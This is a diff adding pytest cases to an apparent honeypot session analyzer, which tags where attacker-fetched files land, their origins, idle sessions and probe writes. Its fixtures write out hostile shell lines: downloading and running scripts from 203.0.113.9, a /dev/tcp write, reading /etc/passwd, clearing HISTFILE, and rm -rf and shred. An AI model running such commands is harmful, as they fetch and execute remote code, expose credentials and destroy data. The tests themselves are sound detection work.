@@ -39,6 +39,23 @@ def told(lines: list[str], number: int = 0, **how: Any) -> dict[str, Any]:
 
 
 @pytest.mark.parametrize(
+    ("lines", "paths"),
+    [
+        (["cd /opt", "wget http://203.0.113.9/a.sh"], ["/opt/a.sh"]),
+        (["curl http://203.0.113.9/a > /tmp/k"], ["/tmp/k"]),
+        (["for f in a b; do tftp -g -r $f 203.0.113.9; done"], ["/root/a"]),
+        (["curl http://203.0.113.9/a"], None),
+        (["wget -qO- http://203.0.113.9/a"], None),
+    ],
+)
+def test_where_a_fetched_file_lies_is_told_unless_it_is_only_shown(
+    lines: list[str], paths: list[str] | None
+) -> None:
+    assert told(lines).get("fetch.path") == paths
+    assert "fetch.source" in told(lines)
+
+
+@pytest.mark.parametrize(
     ("lines", "origins"),
     [
         (["wget http://203.0.113.9/a.sh", "sh a.sh"], ["fetched"]),
@@ -89,6 +106,31 @@ def test_what_the_sensor_saw_come_counts_as_well() -> None:
     seen = [Transfer("uploaded", "/tmp/quonba", "", "ab" * 32)]
     assert told(["./quonba"], transfers=seen)["later.exec"] == ["uploaded"]
     assert "later.exec" not in told(["./other"], transfers=seen)
+
+
+def test_what_the_sensor_saw_come_before_a_line_is_a_file_of_the_session() -> None:
+    seen = [
+        Transfer("uploaded", "pear", ts=10.0),
+        Transfer("fetched", "/srv/plum", "http://203.0.113.9/p", ts=10.0),
+    ]
+    script = Script(seen)
+    (facts,) = script.line("chmod +x /tmp/pear", 10.0).values()
+    assert facts.values["arg.origin"] == ["uploaded"]
+    assert facts.because["arg.origin"] == "the sensor saw pear come (uploaded)"
+    (facts,) = script.line("/tmp/pear", 11.0).values()
+    assert facts.values["exec.origin"] == ["uploaded", "chmodded"]
+    (facts,) = script.line("rm /srv/plum http://203.0.113.9/p/pear", 12.0).values()
+    assert facts.values["arg.origin"] == ["fetched"]
+    values = Script(seen).line("rm /tmp/plum", 12.0)["rm /tmp/plum"].values
+    assert "arg.origin" not in values, "elsewhere is another file"
+
+
+def test_what_comes_after_a_line_or_nobody_knows_when_is_told_as_later() -> None:
+    for ts, line in ((10.1, 10.0), (None, 10.0), (10.0, None)):
+        script = Script([Transfer("uploaded", "pear", ts=ts)])
+        (facts,) = script.line("sh /tmp/pear", line).values()
+        assert "exec.origin" not in facts.values
+        assert facts.values["later.exec"] == ["uploaded"]
 
 
 def test_a_shell_fed_by_a_pipe_knows_where_its_text_came_from() -> None:
@@ -226,3 +268,48 @@ def test_one_long_line_is_no_trouble(text: str) -> None:
     began = time.process_time()
     Script().line(text)
     assert time.process_time() - began < 5.0
+
+
+@pytest.mark.parametrize(
+    ("lines", "idle"),
+    [
+        (["uname -a", "rm -rf /tmp/a"], True),
+        (["sudo rm -rf /tmp/a"], True),
+        (["xyzzy", "rm a"], True),
+        (["rm -rf /tmp/a", "wget http://203.0.113.9/a", "rm b"], None),
+        (["echo a > k", "rm b"], None),
+        (["echo a | passwd", "rm b"], None),
+        (["unset HISTFILE; pkill a", "rm b"], None),
+        (["./x", "rm b"], None),
+        (["cat > k", "shred -u b"], None),
+        (["uname -a", "ls"], None),
+    ],
+)
+def test_a_removal_tells_that_nothing_was_done_before_it(lines: list[str], idle: bool | None) -> None:
+    (facts,) = read_script(lines).facts[-1].values()
+    assert facts.values.get("session.idle") is idle
+
+
+@pytest.mark.parametrize(
+    ("line", "trivial"),
+    [
+        ("echo 77 > /tmp/k", True),
+        ("> /tmp/k", True),
+        ("echo -n ok > /tmp/k", True),
+        ("echo 'admin 54321' > /tmp/k", None),
+        ("echo 7 > /dev/shm/.k", True),
+        ("echo 7 >> /dev/.k", True),
+        ("echo 7 > /dev/null", None),
+        ("echo 7 > /dev/tcp/203.0.113.9/80", None),
+        ("echo 7 > /dev/pts/0", None),
+        (": > /tmp/k", True),
+        ("cat << E > /tmp/k\n1\nE", True),
+        ("./report > /tmp/k", None),
+        ("pg_dump shop > /tmp/k", None),
+        ("cat /etc/passwd > /tmp/k", None),
+        ("echo 77 | sudo tee /tmp/k", None),
+        ("echo 'id; reboot' > /tmp/k", None),
+    ],
+)
+def test_a_file_is_a_probe_only_when_the_line_says_all_of_it(line: str, trivial: bool | None) -> None:
+    assert told([line]).get("write.trivial") is trivial
